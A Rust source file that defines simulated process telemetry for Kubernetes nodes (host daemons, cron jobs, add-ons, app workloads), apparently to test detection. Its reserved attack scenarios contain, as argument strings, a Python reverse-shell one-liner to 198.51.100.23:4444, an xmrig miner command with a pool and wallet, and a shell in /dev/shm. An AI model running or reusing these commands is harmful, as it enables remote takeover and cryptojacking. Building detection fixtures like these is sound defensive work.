@@ -1,0 +1,622 @@
+//! What runs on the simulated nodes: host daemons, cron jobs, cluster add-ons and a pool of
+//! application workloads, with the attributes the process scraper reports for each.
+//!
+//! Names follow gopsutil: `process.executable.name` is the kernel `comm` (the name the binary
+//! was *executed as*, so `python` for `/usr/local/bin/python3.11` run through its symlink, and
+//! `gunicorn` for a script), extended from argv[0] when the kernel truncated it at 15 bytes
+//! (`containerd-shim-runc-v2`), and left truncated when argv[0] was rewritten (puma's
+//! `puma 6.4.2 (tcp`). `process.executable.path` is the target of `/proc/<pid>/exe`, so the
+//! merged-/usr path (`/usr/lib/systemd/systemd-journald`, `/usr/sbin/agetty`) and, for
+//! containers, the path inside the container image. `process.owner` is `None` where the
+//! container's uid has no user on the host (the scraper then omits the key).
+
+/// Average resource use of a process, varied per incarnation.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub(crate) struct Profile {
+    /// CPU in cores.
+    pub cpu: f64,
+    /// Shares of the CPU time spent in system and iowait (the rest is user).
+    pub sys: f64,
+    pub wait: f64,
+    pub rss_mb: f64,
+    pub vms_mb: f64,
+    /// Disk traffic in KiB/s.
+    pub read_kib: f64,
+    pub write_kib: f64,
+}
+
+const fn prof(cpu: f64, sys: f64, wait: f64, rss_mb: f64, vms_mb: f64, read_kib: f64, write_kib: f64) -> Profile {
+    Profile {
+        cpu,
+        sys,
+        wait,
+        rss_mb,
+        vms_mb,
+        read_kib,
+        write_kib,
+    }
+}
+
+/// One executable as the scraper sees it.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub(crate) struct Exe {
+    pub path: &'static str,
+    pub name: &'static str,
+    /// argv[0] (`process.command`).
+    pub command: &'static str,
+    /// The rest of argv joined with spaces (quoting is lost, as on Linux); `{node}`, `{ip}`
+    /// and `{sandbox}` are substituted.
+    pub args: &'static str,
+    pub owner: Option<&'static str>,
+    pub profile: Profile,
+}
+
+const fn exe(
+    path: &'static str,
+    name: &'static str,
+    command: &'static str,
+    args: &'static str,
+    owner: Option<&'static str>,
+    profile: Profile,
+) -> Exe {
+    Exe {
+        path,
+        name,
+        command,
+        args,
+        owner,
+        profile,
+    }
+}
+
+const ROOT: Option<&str> = Some("root");
+
+pub(crate) const SYSTEMD: Exe = exe(
+    "/usr/lib/systemd/systemd",
+    "systemd",
+    "/sbin/init",
+    "",
+    ROOT,
+    prof(0.003, 0.55, 0.0, 11.0, 167.0, 0.2, 1.5),
+);
+
+/// Host daemons, started in this order at boot (after systemd, pid 1). All run all the time.
+pub(crate) const DAEMONS: [Exe; 13] = [
+    exe("/usr/lib/systemd/systemd-journald", "systemd-journald", "/lib/systemd/systemd-journald", "", ROOT, prof(0.004, 0.45, 0.01, 48.0, 120.0, 0.3, 45.0)),
+    exe("/usr/lib/systemd/systemd-udevd", "systemd-udevd", "/lib/systemd/systemd-udevd", "", ROOT, prof(0.0004, 0.5, 0.0, 7.0, 25.0, 0.0, 0.0)),
+    exe("/usr/lib/systemd/systemd-networkd", "systemd-networkd", "/lib/systemd/systemd-networkd", "", Some("systemd-network"), prof(0.0006, 0.5, 0.0, 8.0, 17.0, 0.0, 0.0)),
+    exe("/usr/lib/systemd/systemd-resolved", "systemd-resolved", "/lib/systemd/systemd-resolved", "", Some("systemd-resolve"), prof(0.002, 0.4, 0.0, 13.0, 25.0, 0.0, 0.1)),
+    exe("/usr/lib/systemd/systemd-logind", "systemd-logind", "/lib/systemd/systemd-logind", "", ROOT, prof(0.0002, 0.5, 0.0, 7.5, 17.0, 0.0, 0.0)),
+    exe("/usr/bin/dbus-daemon", "dbus-daemon", "@dbus-daemon", "--system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only", Some("messagebus"), prof(0.0005, 0.5, 0.0, 5.0, 9.0, 0.0, 0.0)),
+    exe("/usr/sbin/rsyslogd", "rsyslogd", "/usr/sbin/rsyslogd", "-n -iNONE", Some("syslog"), prof(0.001, 0.4, 0.01, 6.0, 222.0, 0.0, 12.0)),
+    exe("/usr/sbin/cron", "cron", "/usr/sbin/cron", "-f -P", ROOT, prof(0.0001, 0.5, 0.0, 2.8, 7.0, 0.0, 0.0)),
+    exe("/usr/sbin/chronyd", "chronyd", "/usr/sbin/chronyd", "-F 1", Some("_chrony"), prof(0.0002, 0.6, 0.0, 3.2, 18.0, 0.0, 0.0)),
+    exe("/usr/sbin/sshd", "sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "", ROOT, prof(0.0001, 0.5, 0.0, 7.5, 15.0, 0.0, 0.0)),
+    exe("/usr/sbin/agetty", "agetty", "/sbin/agetty", "-o -p -- \\u --keep-baud 115200,57600,38400,9600 ttyS0 vt220", ROOT, prof(0.0, 0.5, 0.0, 2.0, 6.0, 0.0, 0.0)),
+    exe("/usr/bin/containerd", "containerd", "/usr/bin/containerd", "", ROOT, prof(0.035, 0.35, 0.004, 70.0, 2600.0, 1.0, 60.0)),
+    exe(
+        "/usr/bin/kubelet",
+        "kubelet",
+        "/usr/bin/kubelet",
+        "--bootstrap-kubeconfig=/etc/kubernetes/bootstrap-kubelet.conf --kubeconfig=/etc/kubernetes/kubelet.conf --config=/var/lib/kubelet/config.yaml --container-runtime-endpoint=unix:///run/containerd/containerd.sock --node-ip={ip} --hostname-override={node}",
+        ROOT,
+        prof(0.06, 0.3, 0.002, 110.0, 2100.0, 1.0, 25.0),
+    ),
+];
+/// Index of cron in [`DAEMONS`] (the parent of cron jobs).
+pub(crate) const CRON: usize = 7;
+/// Index of containerd in [`DAEMONS`] (the fallback for the restart scenario).
+pub(crate) const CONTAINERD: usize = 11;
+
+/// When a scheduled job runs.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub(crate) enum Schedule {
+    /// Every day at this second of the (UTC) day, plus a per-node offset below `jitter_s`.
+    Daily { at_s: u64, jitter_s: u64, dur_s: u64 },
+    /// Every hour at this second of the hour.
+    Hourly { at_s: u64, dur_s: u64 },
+}
+
+/// Short-lived jobs that run at fixed times, so they are part of every node's baseline.
+/// `by_cron`: parent is cron (else systemd, for timers).
+pub(crate) const JOBS: [(Exe, Schedule, bool); 3] = [
+    (
+        exe(
+            "/usr/sbin/logrotate",
+            "logrotate",
+            "/usr/sbin/logrotate",
+            "/etc/logrotate.conf",
+            ROOT,
+            prof(0.25, 0.5, 0.1, 4.0, 9.0, 300.0, 600.0),
+        ),
+        Schedule::Daily {
+            at_s: 0,
+            jitter_s: 3600,
+            dur_s: 100,
+        },
+        false,
+    ),
+    (
+        exe(
+            "/usr/bin/run-parts",
+            "run-parts",
+            "run-parts",
+            "--report /etc/cron.daily",
+            ROOT,
+            prof(0.05, 0.5, 0.05, 3.0, 8.0, 50.0, 20.0),
+        ),
+        Schedule::Daily {
+            at_s: 6 * 3600 + 25 * 60,
+            jitter_s: 0,
+            dur_s: 150,
+        },
+        true,
+    ),
+    (
+        exe(
+            "/usr/bin/find",
+            "find",
+            "/usr/bin/find",
+            "/var/log/pods -name *.gz -mtime +7 -delete",
+            ROOT,
+            prof(0.2, 0.7, 0.2, 3.0, 8.0, 900.0, 2.0),
+        ),
+        Schedule::Hourly {
+            at_s: 17 * 60,
+            dur_s: 40,
+        },
+        true,
+    ),
+];
+
+/// The per-pod runtime shim (its parent is systemd: shims daemonize).
+pub(crate) const SHIM: Exe = exe(
+    "/usr/bin/containerd-shim-runc-v2",
+    "containerd-shim-runc-v2",
+    "/usr/bin/containerd-shim-runc-v2",
+    "-namespace k8s.io -id {sandbox} -address /run/containerd/containerd.sock",
+    ROOT,
+    prof(0.002, 0.5, 0.0, 9.0, 1240.0, 0.0, 0.0),
+);
+
+/// A process of a pod: its executable, its parent (`None`: the shim; `Some(i)`: process `i`
+/// of the same pod) and how often its container restarts (mean days, 0: never).
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct PodProc {
+    pub exe: Exe,
+    pub parent: Option<usize>,
+    pub restart_days: f64,
+}
+
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct Workload {
+    pub name: &'static str,
+    pub namespace: &'static str,
+    pub daemonset: bool,
+    pub procs: &'static [PodProc],
+    /// Relative popularity in the application pool.
+    pub weight: f64,
+    /// Mean days between rollouts (new pod name, new pids), 0: never.
+    pub rollout_days: f64,
+}
+
+const fn main(exe: Exe, restart_days: f64) -> PodProc {
+    PodProc {
+        exe,
+        parent: None,
+        restart_days,
+    }
+}
+const fn child(exe: Exe, parent: usize) -> PodProc {
+    PodProc {
+        exe,
+        parent: Some(parent),
+        restart_days: 0.0,
+    }
+}
+
+/// Cluster add-ons on every node (on top of the application processes).
+pub(crate) const ADDONS: [Workload; 3] = [
+    Workload {
+        name: "kube-proxy",
+        namespace: "kube-system",
+        daemonset: true,
+        procs: &[main(
+            exe(
+                "/usr/local/bin/kube-proxy",
+                "kube-proxy",
+                "/usr/local/bin/kube-proxy",
+                "--config=/var/lib/kube-proxy/config.conf --hostname-override={node}",
+                ROOT,
+                prof(0.008, 0.45, 0.0, 45.0, 1300.0, 0.0, 0.0),
+            ),
+            0.0,
+        )],
+        weight: 0.0,
+        rollout_days: 40.0,
+    },
+    Workload {
+        name: "cilium",
+        namespace: "kube-system",
+        daemonset: true,
+        procs: &[main(
+            exe(
+                "/usr/bin/cilium-agent",
+                "cilium-agent",
+                "cilium-agent",
+                "--config-dir=/tmp/cilium/config-map",
+                ROOT,
+                prof(0.05, 0.4, 0.0, 260.0, 2500.0, 0.0, 6.0),
+            ),
+            60.0,
+        )],
+        weight: 0.0,
+        rollout_days: 30.0,
+    },
+    Workload {
+        name: "otel-agent",
+        namespace: "observability",
+        daemonset: true,
+        procs: &[main(
+            exe(
+                "/otelcol-contrib",
+                "otelcol-contrib",
+                "/otelcol-contrib",
+                "--config=/conf/relay.yaml",
+                ROOT,
+                prof(0.03, 0.3, 0.0, 180.0, 1900.0, 0.0, 1.0),
+            ),
+            45.0,
+        )],
+        weight: 0.0,
+        rollout_days: 21.0,
+    },
+];
+
+/// Cluster DNS: a two-replica Deployment, so it runs on a subset of nodes.
+pub(crate) const COREDNS: Workload = Workload {
+    name: "coredns",
+    namespace: "kube-system",
+    daemonset: false,
+    procs: &[main(
+        exe(
+            "/coredns",
+            "coredns",
+            "/coredns",
+            "-conf /etc/coredns/Corefile",
+            None,
+            prof(0.004, 0.4, 0.0, 28.0, 1280.0, 0.0, 0.0),
+        ),
+        90.0,
+    )],
+    weight: 0.0,
+    rollout_days: 45.0,
+};
+
+/// A monitoring DaemonSet: the `common_in_cluster_new_on_node` scenario holds it back from one
+/// node until the last hour (its path is reserved to that use).
+pub(crate) const NODE_EXPORTER: Workload = Workload {
+    name: "node-exporter",
+    namespace: "monitoring",
+    daemonset: true,
+    procs: &[main(
+        exe(
+            "/bin/node_exporter",
+            "node_exporter",
+            "/bin/node_exporter",
+            "--path.rootfs=/host --web.listen-address=0.0.0.0:9100",
+            Some("nobody"),
+            prof(0.006, 0.5, 0.0, 22.0, 730.0, 0.0, 0.0),
+        ),
+        0.0,
+    )],
+    weight: 0.0,
+    rollout_days: 60.0,
+};
+
+/// The application DaemonSet every node runs (counted in `processes`).
+pub(crate) const LOG_SHIPPER: Workload = Workload {
+    name: "fluent-bit",
+    namespace: "logging",
+    daemonset: true,
+    procs: &[main(
+        exe(
+            "/fluent-bit/bin/fluent-bit",
+            "fluent-bit",
+            "/fluent-bit/bin/fluent-bit",
+            "-c /fluent-bit/etc/fluent-bit.conf",
+            ROOT,
+            prof(0.015, 0.4, 0.01, 35.0, 420.0, 120.0, 4.0),
+        ),
+        30.0,
+    )],
+    weight: 0.0,
+    rollout_days: 25.0,
+};
+
+const PY: &str = "/usr/local/bin/python3.11";
+const TEMURIN: &str = "/opt/java/openjdk/bin/java";
+
+/// The application pool: Deployments drawn (with replacement) to fill each node.
+pub(crate) const APPS: [Workload; 20] = [
+    Workload {
+        name: "web-frontend",
+        namespace: "web",
+        daemonset: false,
+        procs: &[
+            main(exe("/usr/sbin/nginx", "nginx", "nginx: master process nginx -g daemon off;", "", ROOT, prof(0.0005, 0.5, 0.0, 9.0, 60.0, 0.0, 0.0)), 0.0),
+            child(exe("/usr/sbin/nginx", "nginx", "nginx: worker process", "", None, prof(0.02, 0.45, 0.0, 14.0, 62.0, 4.0, 30.0)), 0),
+        ],
+        weight: 3.0,
+        rollout_days: 5.0,
+    },
+    Workload {
+        name: "api-gateway",
+        namespace: "edge",
+        daemonset: false,
+        procs: &[main(exe("/usr/local/bin/envoy", "envoy", "envoy", "-c /etc/envoy/envoy.yaml --service-cluster api-gateway --log-level warn", None, prof(0.08, 0.35, 0.0, 90.0, 2300.0, 0.0, 2.0)), 20.0)],
+        weight: 3.0,
+        rollout_days: 9.0,
+    },
+    Workload {
+        name: "checkout",
+        namespace: "shop",
+        daemonset: false,
+        procs: &[main(exe("/usr/local/bin/node", "node", "node", "dist/main.js", None, prof(0.06, 0.2, 0.0, 160.0, 11000.0, 1.0, 3.0)), 6.0)],
+        weight: 3.0,
+        rollout_days: 3.0,
+    },
+    Workload {
+        name: "auth",
+        namespace: "identity",
+        daemonset: false,
+        procs: &[main(exe("/usr/local/bin/node", "node", "node", "--max-old-space-size=512 server.js", None, prof(0.03, 0.2, 0.0, 120.0, 10800.0, 0.5, 1.0)), 10.0)],
+        weight: 2.0,
+        rollout_days: 7.0,
+    },
+    Workload {
+        name: "recommendations",
+        namespace: "shop",
+        daemonset: false,
+        procs: &[main(exe(PY, "gunicorn", "/usr/local/bin/python", "/usr/local/bin/gunicorn --workers 2 --bind 0.0.0.0:8000 recommendations.wsgi:application", ROOT, prof(0.09, 0.15, 0.0, 210.0, 520.0, 2.0, 1.0)), 8.0)],
+        weight: 2.5,
+        rollout_days: 4.0,
+    },
+    Workload {
+        name: "task-worker",
+        namespace: "shop",
+        daemonset: false,
+        procs: &[main(exe(PY, "celery", "/usr/local/bin/python", "/usr/local/bin/celery -A tasks worker --loglevel=INFO --concurrency=2", None, prof(0.12, 0.2, 0.01, 180.0, 450.0, 10.0, 25.0)), 3.0)],
+        weight: 2.0,
+        rollout_days: 4.0,
+    },
+    Workload {
+        name: "notifications",
+        namespace: "messaging",
+        daemonset: false,
+        procs: &[main(exe("/usr/bin/python3.11", "python3", "python3", "-m notifications.main", ROOT, prof(0.01, 0.2, 0.0, 65.0, 310.0, 0.0, 0.5)), 12.0)],
+        weight: 1.5,
+        rollout_days: 10.0,
+    },
+    Workload {
+        name: "batch-runner",
+        namespace: "data",
+        daemonset: false,
+        procs: &[
+            main(exe("/usr/bin/tini", "tini", "/usr/bin/tini", "-- python runner.py", ROOT, prof(0.0, 0.5, 0.0, 0.8, 2.5, 0.0, 0.0)), 0.0),
+            PodProc { exe: exe(PY, "python", "python", "runner.py", ROOT, prof(0.2, 0.1, 0.02, 300.0, 900.0, 80.0, 40.0)), parent: Some(0), restart_days: 2.0 },
+        ],
+        weight: 1.0,
+        rollout_days: 6.0,
+    },
+    Workload {
+        name: "orders",
+        namespace: "shop",
+        daemonset: false,
+        procs: &[main(exe(TEMURIN, "java", "java", "-XX:MaxRAMPercentage=75.0 -jar /app/orders.jar", None, prof(0.15, 0.1, 0.0, 700.0, 4800.0, 3.0, 6.0)), 9.0)],
+        weight: 2.5,
+        rollout_days: 5.0,
+    },
+    Workload {
+        name: "billing",
+        namespace: "payments",
+        daemonset: false,
+        procs: &[main(exe("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java", "java", "-Xmx512m -cp /app/lib/* com.example.billing.Main", None, prof(0.07, 0.1, 0.0, 620.0, 4300.0, 1.0, 2.0)), 14.0)],
+        weight: 1.5,
+        rollout_days: 8.0,
+    },
+    Workload {
+        name: "search",
+        namespace: "data",
+        daemonset: false,
+        procs: &[main(exe(TEMURIN, "java", "java", "-Xms1g -Xmx1g -jar /usr/share/search/search.jar", None, prof(0.25, 0.12, 0.01, 1300.0, 6200.0, 150.0, 90.0)), 15.0)],
+        weight: 1.0,
+        rollout_days: 12.0,
+    },
+    Workload {
+        name: "catalog",
+        namespace: "shop",
+        daemonset: false,
+        procs: &[main(exe("/app/server", "server", "/app/server", "--port=8080 --metrics-port=9090", None, prof(0.03, 0.3, 0.0, 40.0, 1250.0, 0.0, 0.0)), 15.0)],
+        weight: 3.0,
+        rollout_days: 3.0,
+    },
+    Workload {
+        name: "inventory",
+        namespace: "shop",
+        daemonset: false,
+        procs: &[main(exe("/app/server", "server", "/app/server", "--config=/etc/inventory/config.yaml", None, prof(0.02, 0.3, 0.0, 35.0, 1240.0, 0.0, 0.0)), 15.0)],
+        weight: 2.0,
+        rollout_days: 4.0,
+    },
+    Workload {
+        name: "cache",
+        namespace: "data",
+        daemonset: false,
+        procs: &[main(exe("/usr/local/bin/redis-server", "redis-server", "redis-server *:6379", "", None, prof(0.02, 0.45, 0.0, 150.0, 190.0, 0.0, 40.0)), 30.0)],
+        weight: 1.5,
+        rollout_days: 20.0,
+    },
+    Workload {
+        name: "db",
+        namespace: "data",
+        daemonset: false,
+        procs: &[
+            main(exe("/usr/lib/postgresql/16/bin/postgres", "postgres", "postgres", "-D /var/lib/postgresql/data", None, prof(0.01, 0.3, 0.02, 60.0, 220.0, 20.0, 10.0)), 0.0),
+            child(exe("/usr/lib/postgresql/16/bin/postgres", "postgres", "postgres: checkpointer ", "", None, prof(0.002, 0.4, 0.05, 30.0, 220.0, 0.0, 120.0)), 0),
+        ],
+        weight: 1.0,
+        rollout_days: 30.0,
+    },
+    Workload {
+        name: "queue",
+        namespace: "messaging",
+        daemonset: false,
+        procs: &[main(
+            exe(
+                "/usr/local/lib/erlang/erts-14.2.5/bin/beam.smp",
+                "beam.smp",
+                "/usr/local/lib/erlang/erts-14.2.5/bin/beam.smp",
+                "-W w -MBas ageffcbf -MHas ageffcbf -MBlmbcs 512 -MHlmbcs 512 -MMmcs 30 -P 1048576 -t 5000000 -stbt db -zdbbl 128000 -sbwt none -- -root /usr/local/lib/erlang -progname erl -- -home /var/lib/rabbitmq -- -noshell -noinput -s rabbit boot",
+                None,
+                prof(0.05, 0.3, 0.0, 140.0, 2600.0, 2.0, 15.0),
+            ),
+            25.0,
+        )],
+        weight: 1.0,
+        rollout_days: 20.0,
+    },
+    Workload {
+        name: "storefront",
+        namespace: "web",
+        daemonset: false,
+        procs: &[main(exe("/usr/local/bin/ruby", "puma 6.4.2 (tcp", "puma 6.4.2 (tcp://0.0.0.0:3000) [app]", "", None, prof(0.04, 0.15, 0.0, 240.0, 1100.0, 0.5, 1.0)), 7.0)],
+        weight: 1.0,
+        rollout_days: 4.0,
+    },
+    Workload {
+        name: "cms",
+        namespace: "web",
+        daemonset: false,
+        procs: &[
+            main(exe("/usr/local/sbin/php-fpm", "php-fpm", "php-fpm: master process (/usr/local/etc/php-fpm.conf)", "", ROOT, prof(0.001, 0.5, 0.0, 20.0, 210.0, 0.0, 0.0)), 0.0),
+            child(exe("/usr/local/sbin/php-fpm", "php-fpm", "php-fpm: pool www", "", Some("www-data"), prof(0.02, 0.25, 0.0, 45.0, 215.0, 1.0, 0.5)), 0),
+        ],
+        weight: 1.0,
+        rollout_days: 10.0,
+    },
+    Workload {
+        name: "config-sync",
+        namespace: "shop",
+        daemonset: false,
+        procs: &[main(exe("/bin/busybox", "sh", "sh", "-c while true; do wget -q -O /shared/config.json http://config-server/config; sleep 60; done", ROOT, prof(0.0003, 0.6, 0.0, 0.6, 4.3, 0.0, 0.1)), 0.0)],
+        weight: 1.5,
+        rollout_days: 15.0,
+    },
+    Workload {
+        name: "reports",
+        namespace: "data",
+        daemonset: false,
+        procs: &[main(exe("/usr/share/dotnet/dotnet", "dotnet", "dotnet", "Reports.Api.dll", None, prof(0.05, 0.15, 0.0, 190.0, 27000.0, 2.0, 3.0)), 10.0)],
+        weight: 1.0,
+        rollout_days: 6.0,
+    },
+];
+
+// ---------------------------------------------------------------------------------------------
+// Scenario executables (reserved: nothing else runs them).
+
+pub(crate) const XMRIG: Exe = exe(
+    "/tmp/.x/xmrig",
+    "xmrig",
+    "/tmp/.x/xmrig",
+    "-o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls -B --donate-level 1",
+    ROOT,
+    prof(3.6, 0.02, 0.0, 2400.0, 2650.0, 0.0, 0.0),
+);
+pub(crate) const DEV_SHM_SH: Exe = exe(
+    "/dev/shm/sh",
+    "sh",
+    "/dev/shm/sh",
+    "-i",
+    ROOT,
+    prof(0.001, 0.5, 0.0, 1.2, 4.5, 0.0, 0.0),
+);
+pub(crate) const TMP_PYTHON: Exe = exe(
+    "/var/tmp/python3",
+    "python3",
+    "/var/tmp/python3",
+    "-c import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")",
+    Some("www-data"),
+    prof(0.002, 0.4, 0.0, 9.5, 26.0, 0.0, 0.0),
+);
+pub(crate) const TCPDUMP: Exe = exe(
+    "/usr/bin/tcpdump",
+    "tcpdump",
+    "tcpdump",
+    "-i any -nn -w /tmp/dns.pcap port 53",
+    Some("tcpdump"),
+    prof(0.01, 0.6, 0.0, 12.0, 30.0, 0.0, 20.0),
+);
+pub(crate) const CRICTL: Exe = exe(
+    "/usr/bin/crictl",
+    "crictl",
+    "crictl",
+    "logs -f {sandbox}",
+    ROOT,
+    prof(0.003, 0.4, 0.0, 30.0, 1280.0, 0.0, 0.0),
+);
+
+/// Paths that only scenarios (or their dedicated workload) may run.
+#[cfg(test)]
+pub(crate) const RESERVED: [&str; 6] = [
+    XMRIG.path,
+    DEV_SHM_SH.path,
+    TMP_PYTHON.path,
+    TCPDUMP.path,
+    CRICTL.path,
+    "/bin/node_exporter",
+];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn catalog_is_consistent() {
+        let mut all: Vec<Exe> = vec![SYSTEMD, SHIM];
+        all.extend(DAEMONS);
+        all.extend(JOBS.iter().map(|j| j.0));
+        for w in ADDONS
+            .iter()
+            .chain(APPS.iter())
+            .chain([&COREDNS, &NODE_EXPORTER, &LOG_SHIPPER])
+        {
+            for (i, p) in w.procs.iter().enumerate() {
+                assert!(
+                    p.parent.is_none_or(|j| j < i),
+                    "{}: a parent precedes its child",
+                    w.name
+                );
+                all.push(p.exe);
+            }
+        }
+        for e in &all {
+            assert!(e.path.starts_with('/'), "{}", e.path);
+            assert!(!e.name.is_empty() && e.name.len() <= 23, "{}", e.name);
+            if w_is_reserved(e.path) {
+                assert_eq!(
+                    e.path, "/bin/node_exporter",
+                    "only node-exporter may use a reserved path outside scenarios"
+                );
+            }
+        }
+        assert_eq!(DAEMONS[CRON].path, "/usr/sbin/cron");
+        assert_eq!(DAEMONS[CONTAINERD].path, "/usr/bin/containerd");
+        assert!(APPS.iter().any(|w| w.procs.len() == 1));
+    }
+
+    fn w_is_reserved(p: &str) -> bool {
+        RESERVED.contains(&p)
+    }
+}
